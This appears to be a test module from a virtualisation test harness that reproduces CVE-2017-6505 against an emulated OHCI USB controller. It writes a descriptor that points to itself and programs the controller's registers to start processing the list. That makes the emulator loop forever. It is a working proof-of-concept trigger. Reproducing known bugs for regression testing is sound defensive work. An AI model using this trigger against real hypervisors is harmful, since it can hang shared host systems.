# SPDX-License-Identifier: GPL-2.0
"""A USB 1.1 controller, OHCI"""

import struct

DEVICES = ("pci-ohci",)
BACKENDS = ()
# HcRevision
PROBE = 0, 0x0

CONTROL, STATUS, SHARED, CONTROL_HEAD = 0x04, 0x08, 0x18, 0x20
CONTROL_LIST = 1 << 4
OPERATIONAL = 0x80
LIST_FILLED = 2
SKIP = 1 << 14


def cve_2017_6505(guest):
    """The list of endpoints is one endpoint, which follows itself."""
    bar = guest.device.bars[0]
    place = guest.alloc(16)
    guest.put(place, struct.pack("<IIII", SKIP, 0, 0, place))
    bar.write(SHARED, guest.alloc(256, 256))
    bar.write(CONTROL_HEAD, place)
    bar.write(STATUS, LIST_FILLED)
    bar.write(CONTROL, CONTROL_LIST | OPERATIONAL)
    guest.wait(0.1)
